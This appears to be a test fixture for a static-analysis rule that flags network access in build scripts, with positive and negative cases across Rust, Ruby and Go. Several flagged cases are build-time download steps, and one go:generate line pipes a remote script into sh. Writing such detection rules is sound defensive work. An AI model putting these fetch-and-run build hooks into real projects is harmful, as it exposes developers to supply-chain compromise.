// Fixture for generic-build-script-network (build.rs, extconf.rb and go:generate lines together).
// RULEID: reqwest in build.rs; curl through Command::new; Ruby Net::HTTP in
//   extconf.rb; a go:generate directive piping curl.
// OK: cc::Build compiling C; sh -c ./configure of a vendored library; pkg-config; go:generate stringer.
use std::process::Command;

fn main() {
    // ruleid: generic-build-script-network
    let body = reqwest::blocking::get("https://cdn.example.net/blob").unwrap().bytes().unwrap();
    // ruleid: generic-build-script-network
    Command::new("curl").args(["-sSfo", "/tmp/x", "http://203.0.113.7/x"]).status().unwrap();
    // ok: generic-build-script-network
    Command::new("sh").arg("-c").arg("./configure --disable-shared").status().unwrap();
    // ok: generic-build-script-network
    cc::Build::new().file("src/native.c").compile("native");
    // ok: generic-build-script-network
    Command::new("pkg-config").args(["--libs", "openssl"]).output().unwrap();
}

/* extconf.rb:
# ruleid: generic-build-script-network
payload = Net::HTTP.get(URI("https://cdn.example.net/p.rb"))
*/

// ruleid: generic-build-script-network
//go:generate sh -c "curl -s https://cdn.example.net/gen.sh | sh"
// ok: generic-build-script-network
//go:generate stringer -type=Kind
